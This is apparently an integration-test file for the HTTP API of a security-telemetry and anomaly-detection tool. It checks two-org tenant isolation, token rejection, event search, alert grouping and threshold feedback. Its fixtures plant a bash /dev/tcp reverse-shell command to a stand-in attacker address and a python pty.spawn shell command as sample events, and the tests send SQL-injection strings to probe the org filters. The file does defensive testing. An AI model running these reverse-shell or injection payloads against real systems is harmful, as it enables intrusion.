"""The HTTP API (ruleless/api.py) on the real pipeline: broker, worker, sink (chdb),
LanceDB, and `ruleless api` itself over HTTP.

Two orgs, alpha and bravo, run the same workloads (web, db) on hosts of the same names;
bravo's events carry markers alpha's never do. One stack serves the whole module.
"""

from __future__ import annotations

import re
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from ruleless.settings import Settings
from ruleless.tokens import TokenStore, tokens_path
from schemas.events import RawEvent
from tests.apistack import api_process, pipeline, publish, sql, stack_settings, table, token, wait_for, wait_stored
from tests.factories import T0, event, workload_stream
from ruleless.reads import HAS_BEHAVIOUR_ID
from tests.processes import RULELESS

pytestmark = pytest.mark.integration

ALPHA, BRAVO = "alpha", "bravo"
# What only bravo's events contain (its org name, a workload alpha does not have, an
# address and a word in its command lines): none of it may ever reach alpha.
BRAVO_MARKERS = (BRAVO, "payments", "10.6.6.6", "bravo-ledger")


def planted(org: str, **fields: Any) -> RawEvent:
    return event(**{"org_id": org, "workload": "web", "host": "web-1", **fields})


def org_events(org: str, seed: int) -> dict[str, Any]:
    """One org's events: routine web and db workloads, and a few planted ones."""
    attacker = "10.9.9.9" if org == ALPHA else "10.6.6.6"
    shell = planted(org, ts=T0 + 4000, pid=7001, ppid=7000, process_name="bash", parent_process="nginx",
                    user="www-data", cmdline=f"bash -i >& /dev/tcp/{attacker}/4444 0>&1")
    parent = planted(org, ts=T0 + 3999.5, pid=7000, ppid=1, process_name="nginx", parent_process="systemd",
                     user="www-data", cmdline="nginx: worker process")
    odd = dict(process_name="certbot", exe="/usr/bin/certbot", parent_process="cron", user="root", uid=0, host="web-1")
    certbot = planted(org, ts=T0 + 5000, pid=501, cmdline="certbot renew --quiet", **{k: v for k, v in odd.items() if k != "host"})
    burst = [planted(org, ts=T0 + 4500 + i, pid=8000 + i, host=f"web-{i}", process_name="python3", parent_process="sshd",
                     user="root", uid=0, cmdline=f"python3 -c import pty;pty.spawn('/bin/sh') # {'bravo-ledger' if org == BRAVO else 'ops'}")
             for i in range(3)]
    routine = list(workload_stream(org, "web", "web", 400, seed=seed)) + list(workload_stream(org, "db", "db", 200, seed=seed))
    if org == BRAVO:
        routine += list(workload_stream(org, "payments", "cron", 100, seed=seed))
    return {"routine": routine, "shell": shell, "parent": parent, "certbot": certbot, "burst": burst,
            "all": routine + [parent, shell, *burst, certbot]}


@pytest.fixture(scope="module")
def stack(kafka_bootstrap: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    data = tmp_path_factory.mktemp("api")
    settings = stack_settings(data, kafka_bootstrap)
    alpha, bravo = org_events(ALPHA, 1), org_events(BRAVO, 2)
    with pipeline(settings, data):
        publish(settings, alpha["all"] + bravo["all"])
        ids = [e.event_id or "" for e in alpha["all"] + bravo["all"]]
        wait_stored(settings, ids)
        with api_process(settings, data) as url:
            made = {"settings": settings, "url": url, "alpha": alpha, "bravo": bravo, "logs": data,
                    "a": token(settings, ALPHA), "b": token(settings, BRAVO), "admin": token(settings, "ops", admin=True)}
            if HAS_BEHAVIOUR_ID:  # the sink's indexer has both orgs' behaviours before any test reads
                wait_for(lambda: _indexed(made), 180, "the sink's indexer to index both orgs' reverse shells")
            yield made


def _indexed(stack: dict[str, Any]) -> bool:
    with client(stack, "admin") as c:
        hits = c.post("/telemetry/security/search", json={"query": "bash -i /dev/tcp", "limit": 50}).json()["hits"]
    found = {h["cmdline"] for h in hits if h["event"] is not None}
    return {stack["alpha"]["shell"].cmdline, stack["bravo"]["shell"].cmdline} <= found


def client(stack: dict[str, Any], who: str | None) -> httpx.Client:
    headers = {"Authorization": f"Bearer {stack[who]}"} if who else {}
    return httpx.Client(base_url=stack["url"], headers=headers, timeout=60)


def get(stack: dict[str, Any], path: str, who: str = "a", **params: Any) -> Any:
    with client(stack, who) as c:
        resp = c.get(path, params=params)
    assert resp.status_code == 200, (path, resp.status_code, resp.text[:500])
    return resp.json()


# -- tenancy -------------------------------------------------------------------------------


def _api_operations(doc: dict[str, Any]) -> list[tuple[str, str]]:
    return [(method.upper(), path) for path, item in doc["paths"].items() for method in item]


def test_no_forged_or_revoked_token_gets_in(stack: dict[str, Any]) -> None:
    settings: Settings = stack["settings"]
    store = TokenStore(tokens_path(settings.api.tokens_file, settings.data_dir))
    record, revoked = store.create(ALPHA)
    store.revoke(record.id)
    real = stack["a"]
    forged = [
        revoked,
        real[:-4] + ("AAAA" if not real.endswith("AAAA") else "BBBB"),  # a real id, a wrong secret
        f"rl_{real.split('_')[1]}_",  # the id alone
        "rl_00000000_" + "x" * 43,  # an unknown id
        "not-a-token",
    ]
    doc = httpx.get(stack["url"] + "/openapi.json").json()
    operations = _api_operations(doc)
    assert len(operations) >= 10
    with httpx.Client(base_url=stack["url"], timeout=30) as c:
        for method, path in operations:
            concrete = path.replace("{event_id}", stack["alpha"]["shell"].event_id).replace("{org}", ALPHA).replace("{workload}", "web")
            body = {"query": "x"} if "search" in path else {"event_id": "x", "label": "expected"} if "feedback" in path else {"warn": 0.5, "alert": 0.9}
            answers = [c.request(method, concrete, json=body)]
            answers += [c.request(method, concrete, json=body, headers={"Authorization": f"Bearer {t}"}) for t in forged]
            answers.append(c.request(method, concrete, json=body, headers={"Authorization": f"Basic {real}"}))
            for resp in answers:
                assert resp.status_code == 401, (method, path, resp.status_code, resp.text[:300])
                assert "alpha" not in resp.text and "bash" not in resp.text
        assert c.get("/api/me", headers={"Authorization": f"Bearer {real}"}).json() == {
            "org": ALPHA, "admin": False, "token_id": real.split("_")[1]}


def _fill(path: str, values: dict[str, str]) -> str:
    for name in re.findall(r"{(\w+)}", path):
        assert name in values, f"the walker does not know the path parameter {name!r} of {path}: add it"
        path = path.replace("{" + name + "}", values[name])
    return path


def _bodies(path: str, stack: dict[str, Any]) -> list[dict[str, Any]]:
    alpha, bravo = stack["alpha"], stack["bravo"]
    if path.endswith("/search"):
        return [{"query": "reverse shell"}, {"query": "bash -i /dev/tcp 4444", "limit": 50},
                {"query": "certbot renew"}, {"query": "reverse shell", "org": BRAVO},
                {"query": "pty spawn", "workload": "web"},
                {"query": "", "like_event_id": alpha["shell"].event_id},
                {"query": "", "like_event_id": bravo["shell"].event_id}]
    if path.endswith("/feedback"):  # (verdicts on bravo's events: refused, never published)
        return [{"event_id": bravo["certbot"].event_id, "label": "expected"},
                {"event_id": bravo["shell"].event_id, "label": "malicious", "note": "x"},
                {"event_id": alpha["routine"][-1].event_id, "label": "expected"}]
    if path.endswith("/thresholds"):
        return [{"warn": 0.7, "alert": 0.9}]
    raise AssertionError(f"the walker has no request body for {path}: add one")


def test_org_a_reads_nothing_of_org_b_on_any_endpoint(stack: dict[str, Any]) -> None:
    """Every operation of the OpenAPI document, with alpha's token, every way of naming
    bravo's data (its org, its event ids, its workloads): nothing of bravo comes back."""
    settings: Settings = stack["settings"]
    alpha, bravo = stack["alpha"], stack["bravo"]
    bravo_ids = {e.event_id for e in bravo["all"]}
    doc = httpx.get(stack["url"] + "/openapi.json").json()
    param_values = [
        {"event_id": alpha["shell"].event_id, "org": ALPHA, "workload": "web"},
        {"event_id": alpha["certbot"].event_id, "org": ALPHA, "workload": "db"},
        {"event_id": bravo["shell"].event_id, "org": BRAVO, "workload": "web"},
        {"event_id": bravo["certbot"].event_id, "org": BRAVO, "workload": "db"},
        {"event_id": bravo["routine"][-1].event_id, "org": BRAVO, "workload": "payments"},
        {"event_id": "x' OR org_id = 'bravo", "org": "alpha' OR '1'='1", "workload": "web' OR org_id = 'bravo"},
    ]
    queries = [{}, {"org": BRAVO}, {"limit": 500}, {"workload": "web", "host": "web-1"}, {"q": "10.6.6.6"},
               {"workload": "web' OR org_id = 'bravo' OR '"}, {"q": "\\' OR 1=1) OR org_id = 'bravo' --"},
               {"q": "bash"}, {"program": "python3"}, {"severity": "warn,alert"}, {"since": "2026-01-01T00:00:00"}]
    seen: dict[tuple[str, str], list[int]] = {}
    bodies_seen = search_hits = 0
    with client(stack, "a") as c:
        for method, path in _api_operations(doc):
            for values in param_values:
                concrete = _fill(path, values)
                if method == "GET":
                    answers = [c.get(concrete, params=q) for q in queries]
                else:
                    answers = [c.request(method, concrete, json=b) for b in _bodies(path, stack)] if method != "DELETE" else [c.delete(concrete)]
                for resp in answers:
                    seen.setdefault((method, path), []).append(resp.status_code)
                    assert resp.status_code < 500, (method, concrete, resp.status_code, resp.text[:500])
                    text = resp.text
                    for marker in BRAVO_MARKERS:
                        assert marker not in text, (method, concrete, marker, text[:500])
                    leaked = {i for i in bravo_ids if i and i in text}
                    assert not leaked, (method, concrete, leaked)
                    bodies_seen += resp.status_code == 200
                    if path.endswith("/search") and resp.status_code == 200:
                        search_hits += len(resp.json()["hits"])
    assert set(seen) == set(_api_operations(doc))
    # (search had hits of alpha's to return: the index holds both orgs' behaviours)
    assert search_hits > 0 or not HAS_BEHAVIOUR_ID
    # Every operation answered alpha at least once (a walk of 404s would prove nothing).
    assert all(200 in codes or 202 in codes for codes in seen.values()), seen
    # Counts are alpha's alone, although bravo runs workloads of the same names.
    truth = {(r["workload"]): int(r["n"]) for r in sql(settings, f"SELECT workload, count() AS n FROM {table(settings)} FINAL WHERE org_id = '{ALPHA}' GROUP BY workload")}
    listed = get(stack, "/api/workloads")["workloads"]
    assert {w["workload"]: w["events"] for w in listed} == truth
    assert {w["org_id"] for w in listed} == {ALPHA}
    stats = get(stack, f"/api/workloads/{ALPHA}/web/stats")
    assert stats["volume"]["events"] == truth["web"]
    assert sum(b["count"] for b in stats["score_histogram"]) == truth["web"]
    # Bravo's own token sees bravo; the admin's sees both, or one when it names it.
    assert {w["workload"] for w in get(stack, "/api/workloads", who="b")["workloads"]} == {"web", "db", "payments"}
    assert {w["org_id"] for w in get(stack, "/api/workloads", who="admin")["workloads"]} == {ALPHA, BRAVO}
    assert {w["org_id"] for w in get(stack, "/api/workloads", who="admin", org=BRAVO)["workloads"]} == {BRAVO}


# -- events ------------------------------------------------------------------------------


def test_events_filter_and_page_through_every_event_once(stack: dict[str, Any]) -> None:
    settings: Settings = stack["settings"]
    truth = sql(settings, f"SELECT event_id FROM {table(settings)} FINAL WHERE org_id = '{ALPHA}' AND workload = 'web' ORDER BY ts DESC, event_id DESC")
    ids: list[str] = []
    cursor = None
    pages = 0
    while True:
        params: dict[str, Any] = {"workload": "web", "limit": 97}
        if cursor:
            params["cursor"] = cursor
        page = get(stack, "/api/events", **params)
        ids += [e["event_id"] for e in page["events"]]
        pages += 1
        cursor = page["next_cursor"]
        if not cursor:
            break
    assert ids == [r["event_id"] for r in truth]
    assert pages == -(-len(truth) // 97)
    by_offset = get(stack, "/api/events", workload="web", limit=10, offset=20)["events"]
    assert [e["event_id"] for e in by_offset] == ids[20:30]

    alpha = stack["alpha"]
    [shell] = get(stack, "/api/events", q="/DEV/TCP/", host="web-1")["events"]
    assert shell["event_id"] == alpha["shell"].event_id and shell["org_id"] == ALPHA
    assert {e["process_name"] for e in get(stack, "/api/events", program="python3", limit=500)["events"]} == {"python3"}
    alerts = get(stack, "/api/events", severity=["warn", "alert"], limit=500)["events"]
    assert alerts and all(e["severity"] in ("warn", "alert") for e in alerts)
    high = get(stack, "/api/events", min_score=0.8, limit=500)["events"]
    assert high and all(e["score"] >= 0.8 for e in high)
    low = get(stack, "/api/events", max_score=0.1, limit=500)["events"]
    assert low and all(e["score"] <= 0.1 for e in low)
    window = get(stack, "/api/events", since=str(T0 + 3999), until="2026-01-01T01:06:40.5Z", limit=500)["events"]
    assert {e["event_id"] for e in window} == {alpha["parent"].event_id, alpha["shell"].event_id} | {
        e.event_id for e in alpha["routine"] if T0 + 3999 <= e.ts < T0 + 4000}
    with client(stack, "a") as c:
        assert c.get("/api/events", params={"severity": "bad"}).status_code == 422
        assert c.get("/api/events", params={"cursor": "!!"}).status_code == 400
        assert c.get("/api/events", params={"q": "x' OR 1=1 --"}).json()["events"] == []


def test_event_detail_has_reasons_lineage_and_usual_arguments(stack: dict[str, Any]) -> None:
    alpha = stack["alpha"]
    detail = get(stack, f"/api/events/{alpha['shell'].event_id}")
    assert detail["event"]["cmdline"] == alpha["shell"].cmdline
    assert detail["reasons"] and all(isinstance(r, str) for r in detail["reasons"])
    assert detail["lineage"]["parent"]["event_id"] == alpha["parent"].event_id
    assert detail["lineage"]["parent_process"] == "nginx"
    parent = get(stack, f"/api/events/{alpha['parent'].event_id}")
    assert alpha["shell"].event_id in [c["event_id"] for c in parent["lineage"]["children"]]
    usual = parent["usual_arguments"]
    assert usual and usual[0]["cmdline"].startswith("nginx") and usual[0]["count"] > 1
    assert "nearest_known" in detail
    with client(stack, "a") as c:
        assert c.get(f"/api/events/{stack['bravo']['shell'].event_id}").status_code == 404
    # The admin reads any org's event.
    assert get(stack, f"/api/events/{stack['bravo']['shell'].event_id}", who="admin")["event"]["org_id"] == BRAVO


def test_alerts_are_grouped_by_behaviour_with_counts_and_hosts(stack: dict[str, Any]) -> None:
    settings: Settings = stack["settings"]
    groups = get(stack, "/api/alerts", limit=500)["groups"]
    assert groups and all(g["org_id"] == ALPHA for g in groups)
    # The burst: one behaviour on three hosts (the shard learns it as it goes: as many
    # of its events as stayed warn or alert are in the group).
    truth = sql(settings, f"SELECT host, ts, score FROM {table(settings)} FINAL WHERE org_id = '{ALPHA}' "
                          "AND process_name = 'python3' AND severity != 'ok'")
    [burst] = [g for g in groups if g["process_name"] == "python3"]
    assert burst["count"] == len(truth) >= 1 and burst["host_count"] == len({r["host"] for r in truth})
    assert sorted(burst["hosts"]) == sorted({r["host"] for r in truth})
    assert burst["first_ts"] == min(r["ts"] for r in truth) and burst["last_ts"] == max(r["ts"] for r in truth)
    assert burst["max_score"] == max(r["score"] for r in truth) == burst["sample"]["score"]
    assert "pty.spawn" in burst["behaviour"] and burst["sample"]["org_id"] == ALPHA
    assert [g["last_ts"] for g in groups] == sorted((g["last_ts"] for g in groups), reverse=True)
    assert sum(g["count"] for g in groups) == int(sql(settings, f"SELECT count() AS n FROM {table(settings)} FINAL "
                                                           f"WHERE org_id = '{ALPHA}' AND severity != 'ok'")[0]["n"])
    assert get(stack, "/api/alerts", workload="db", limit=500)["groups"] == [g for g in groups if g["workload"] == "db"]


def test_workload_stats(stack: dict[str, Any]) -> None:
    stats = get(stack, f"/api/workloads/{ALPHA}/db/stats")
    volume = stats["volume"]
    assert volume["events"] == 200 and volume["hosts"] == 3
    assert volume["ok"] + volume["warn"] + volume["alert"] == 200
    assert sum(t["events"] for t in stats["timeline"]) == 200
    assert len(stats["score_histogram"]) == 20
    growth = stats["baseline_growth"]
    assert growth and growth[-1]["behaviours"] == stats["learned_behaviours"] == volume["behaviours"]
    assert [g["behaviours"] for g in growth] == sorted(g["behaviours"] for g in growth)
    assert stats["learning"]["state"] in ("learning", "learned")
    assert stats["thresholds"]["effective"]["alert"] >= stats["thresholds"]["effective"]["warn"]
    with client(stack, "a") as c:
        assert c.get(f"/api/workloads/{ALPHA}/nope/stats").status_code == 404
        assert c.get(f"/api/workloads/{BRAVO}/db/stats").status_code == 404


# -- search ------------------------------------------------------------------------------------

needs_index = pytest.mark.skipif(not HAS_BEHAVIOUR_ID, reason="the events table has no behaviour_id (search part not merged)")


def search(stack: dict[str, Any], who: str = "a", **body: Any) -> list[dict[str, Any]]:
    with client(stack, who) as c:
        resp = c.post("/telemetry/security/search", json=body)
    assert resp.status_code == 200, resp.text[:500]
    return resp.json()["hits"]  # type: ignore[no-any-return]


@needs_index
def test_search_finds_intent_within_the_callers_org(stack: dict[str, Any]) -> None:
    alpha, bravo = stack["alpha"], stack["bravo"]
    hits = search(stack, query="reverse shell", limit=10)
    assert alpha["shell"].cmdline in [h["cmdline"] for h in hits[:3]], [h["cmdline"] for h in hits]
    assert all(h["org_id"] == ALPHA and h["event"]["org_id"] == ALPHA for h in hits)
    top = next(h for h in hits if h["cmdline"] == alpha["shell"].cmdline)
    assert top["event"]["event_id"] == alpha["shell"].event_id
    assert top["host"] == "web-1" and top["ts"] == alpha["shell"].ts and top["score"] == top["event"]["score"]
    assert [h["rank"] for h in hits] == list(range(1, len(hits) + 1))
    assert [h["similarity"] for h in hits] == sorted((h["similarity"] for h in hits), reverse=True)
    # The admin sees both orgs' shells, or one org's when it names it; bravo sees its own.
    both = {h["cmdline"] for h in search(stack, "admin", query="reverse shell", limit=20)}
    assert {alpha["shell"].cmdline, bravo["shell"].cmdline} <= both
    assert {h["org_id"] for h in search(stack, "admin", query="reverse shell", org=BRAVO)} == {BRAVO}
    assert {h["org_id"] for h in search(stack, "b", query="reverse shell")} == {BRAVO}
    assert {h["workload"] for h in search(stack, query="database dump", workload="db")} == {"db"}
    with client(stack, "a") as c:
        assert c.post("/telemetry/security/search", json={"query": "reverse shell", "org": BRAVO}).status_code == 403
        assert c.post("/telemetry/security/search", json={"query": " "}).status_code == 422


@needs_index
def test_more_like_this_event_and_nearest_known(stack: dict[str, Any]) -> None:
    alpha = stack["alpha"]
    hits = search(stack, query="", like_event_id=alpha["shell"].event_id, limit=5)
    assert hits and all(h["org_id"] == ALPHA for h in hits)
    assert alpha["shell"].cmdline not in [h["cmdline"] for h in hits]  # (itself left out)
    detail = get(stack, f"/api/events/{alpha['shell'].event_id}")
    known = detail["nearest_known"]
    assert known and all(k["org_id"] == ALPHA and k["workload"] == "web" for k in known)
    assert alpha["shell"].cmdline not in [k["exemplar"] for k in known]
    with client(stack, "a") as c:
        resp = c.post("/telemetry/security/search", json={"like_event_id": stack["bravo"]["shell"].event_id})
        assert resp.status_code == 404


# -- the worker hears the API ------------------------------------------------------------------


def _worker_log(stack: dict[str, Any]) -> str:
    return (stack["logs"] / "worker.log").read_text()


def test_expected_feedback_lowers_the_next_score(stack: dict[str, Any]) -> None:
    settings: Settings = stack["settings"]
    first = stack["alpha"]["certbot"]
    again = event(org_id=ALPHA, workload="web", host="web-1", ts=T0 + 5060, pid=502, process_name="certbot",
                  exe="/usr/bin/certbot", parent_process="cron", user="root", uid=0, cmdline="certbot renew --quiet")
    [row] = get(stack, "/api/events", q="certbot")["events"]
    assert row["event_id"] == first.event_id and row["score"] >= 0.6
    with client(stack, "a") as c:
        resp = c.post("/api/feedback", json={"event_id": first.event_id, "label": "expected", "note": "renewal job"})
    assert resp.status_code == 202, resp.text
    wait_for(lambda: f"feedback benign on {first.event_id}" in _worker_log(stack), 60, "the worker to apply the verdict")
    publish(settings, [again])
    [later] = wait_stored(settings, [again.event_id or ""])
    assert float(later["score"]) < float(row["score"]) / 3


def test_thresholds_override_reaches_the_workers_severities(stack: dict[str, Any]) -> None:
    settings: Settings = stack["settings"]
    path = f"/api/workloads/{ALPHA}/db/thresholds"
    before = get(stack, path)
    assert before["override"] is None
    routine = [e for e in workload_stream(ALPHA, "db", "db", 200, seed=1)]
    # The same routine behaviours an hour later: scored ok with the learned thresholds...
    later = [event(**{**_fields(e), "ts": e.ts + 3600, "pid": e.pid + 1}) for e in routine[:20]]
    publish(settings, later[:10])
    rows = wait_stored(settings, [e.event_id or "" for e in later[:10]])
    assert sum(r["severity"] == "ok" for r in rows) >= 8
    # ... and every one an alert once the override says alert at 0.
    with client(stack, "a") as c:
        resp = c.put(path, json={"warn": 0.0, "alert": 0.0})
        assert resp.status_code == 200, resp.text
        assert resp.json()["source"] == "override" and resp.json()["effective"] == {"warn": 0.0, "alert": 0.0}
        assert c.put(path, json={"warn": 0.9, "alert": 0.5}).status_code == 422
    wait_for(lambda: f"{ALPHA}/db warn 0 alert 0" in _worker_log(stack), 30, "the worker to read the override")
    publish(settings, later[10:])
    rows = wait_stored(settings, [e.event_id or "" for e in later[10:]])
    assert {r["severity"] for r in rows} == {"alert"}
    assert get(stack, path)["override"]["updated_by"] == f"api:{stack['a'].split('_')[1]}"
    with client(stack, "a") as c:
        assert c.delete(path).json()["override"] is None


def _fields(e: RawEvent) -> dict[str, Any]:
    import msgspec

    return {k: v for k, v in msgspec.structs.asdict(e).items() if k != "event_id" and v is not None}


def test_non_loopback_bind_is_refused_without_tokens(tmp_path: Path) -> None:
    done = subprocess.run([RULELESS, "api", "--host", "0.0.0.0", "--port", "0"], capture_output=True, timeout=60,
                          env={"RULELESS_DATA_DIR": str(tmp_path), "PATH": "/usr/bin:/bin"})
    assert done.returncode == 2
    assert b"beyond this host" in done.stderr and b"ruleless token create" in done.stderr


def test_metrics_and_readiness_of_the_api(stack: dict[str, Any]) -> None:
    settings: Settings = stack["settings"]
    get(stack, "/api/me")
    base = f"http://{settings.metrics_host}:{settings.api.metrics_port}"
    assert httpx.get(base + "/readyz", timeout=30).json()["ready"] is True
    text = httpx.get(base + "/metrics", timeout=30).text
    assert 'ruleless_api_requests_total{method="GET",route="/api/me",status="200"}' in text
    assert "ruleless_api_request_seconds_bucket" in text


def test_the_dashboard_is_served_at_the_root_and_nothing_from_a_cdn(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from ruleless.api import create_app
    from ruleless.settings import load_settings

    (tmp_path / "dash").mkdir()
    (tmp_path / "dash" / "index.html").write_text("<title>ruleless</title>")
    app = create_app(load_settings(data_dir=str(tmp_path)), dashboard=tmp_path / "dash")
    with TestClient(app) as c:
        assert c.get("/").text == "<title>ruleless</title>"
        assert c.get("/").headers["x-frame-options"] == "DENY"
        assert c.get("/docs").status_code == 404  # (FastAPI's page loads its scripts from a CDN)
        assert c.get("/openapi.json").status_code == 200
        assert c.get("/api/events").status_code == 401
    bare = create_app(load_settings(data_dir=str(tmp_path)), dashboard=tmp_path / "none")
    with TestClient(bare) as c:
        assert c.get("/").status_code == 404
